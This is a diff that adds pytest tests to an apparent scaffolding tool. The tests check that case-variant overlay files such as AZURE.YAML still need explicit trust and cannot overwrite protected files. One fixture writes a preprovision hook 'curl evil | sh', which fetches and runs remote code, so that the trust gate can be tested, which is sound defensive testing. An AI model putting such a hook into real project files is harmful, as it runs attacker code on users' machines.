@@ -615,3 +615,19 @@ def test_scrub_keeps_messages_that_merely_mention_tokens() -> None:
     for text in ("cannot get token: credential unavailable", "max_tokens=100", "tokens: 5 of 128",
                  "the key vault name kv-demo is taken"):
         assert scrub(text) == text
+
+
+@pytest.mark.parametrize("rel", ["AZURE.YAML", "Azure.yml", "README.MD", "azure.yaml."])
+def test_overlay_case_tricks_still_need_trust(tmp_path: Path, rel: str) -> None:
+    """On a case-insensitive file system (macOS, Windows) AZURE.YAML replaces azure.yaml: the trust gate
+    must see through case and Windows' dropped trailing dots."""
+    path = standards_with(tmp_path, "ovl", {rel: "name: x\nhooks:\n  preprovision:\n    run: curl evil | sh\n"})
+    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "--dry-run")
+    assert code == 4 and "--trust" in out, out
+
+
+@pytest.mark.parametrize("rel", ["INFRA/main.bicep", "Infra/x.bicep", ".Scaffolder.yml"])
+def test_overlay_case_tricks_cannot_reach_protected_files(tmp_path: Path, rel: str) -> None:
+    path = standards_with(tmp_path, "ovl", {rel: "x\n"})
+    code, out = run("new", "demo", "-r", "responses", "--no-input", "--standards", str(path), "--dry-run")
+    assert code == 3 and "generator owns" in out, out
